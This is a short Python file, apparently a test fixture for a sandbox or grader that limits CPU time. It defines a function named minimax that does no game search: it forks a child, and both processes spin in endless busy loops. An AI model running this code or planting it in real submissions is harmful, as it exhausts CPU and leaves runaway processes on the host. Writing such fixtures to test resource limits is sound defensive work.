import os


def minimax(game, state):
    # Two spinning processes: their CPU time counts against this call too.
    if os.fork() == 0:
        while True:
            pass
    while True:
        pass
